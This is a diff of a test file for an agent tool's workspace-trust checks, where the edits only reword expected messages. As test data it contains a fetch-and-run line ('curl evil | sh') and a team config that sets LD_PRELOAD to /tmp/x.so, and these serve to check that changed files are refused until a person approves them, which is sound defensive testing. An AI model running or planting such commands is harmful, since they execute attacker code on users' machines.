@@ -68,7 +68,7 @@ test('a team that changed, as by git pull, keeps what was agreed to and starts n
   expect(team?.agents.map(({ slug }) => slug)).toEqual(['web']);
   expect((await up(engine, 'pulled')).body.error.code).toBe('needs_person');
   const why = await engine.call<{ sentence: string }>('GET', '/why/web@pulled');
-  expect(why.body.sentence).toContain('.gantry/teams/pulled/team.yaml has changed and has no effect');
+  expect(why.body.sentence).toContain('.gantry/teams/pulled/team.yaml has changed; it has no effect');
   const [file] = (await trustOf(engine)).files;
   expect(file?.words).toContain('thief starts the command: curl evil | sh');
   expect(file?.diff).toMatch(/^--- [^\n]*team\.yaml\n\+\+\+ /);
@@ -384,7 +384,7 @@ test('a start with --trust agrees to exactly that hash, and with another to noth
   engine.slipIn(teamFile('given'), 'bots:\n  - { bot: web, harness: shell, env: { LD_PRELOAD: /tmp/x.so } }\n');
   const trust = await createWorkspaceTrust({ ...deps, readSteps, workspace: engine.workspace });
   const { hash } = trust.show();
-  expect(await trust.answerAll('0'.repeat(64))).toContain(`has the hash ${hash}`);
+  expect(await trust.answerAll('0'.repeat(64))).toContain(`have the hash ${hash}`);
   expect(trust.waiting()).toEqual([teamFile('given')]);
   expect(await trust.answerAll(hash ?? '')).toBeNull();
   expect(trust.waiting()).toEqual([]);
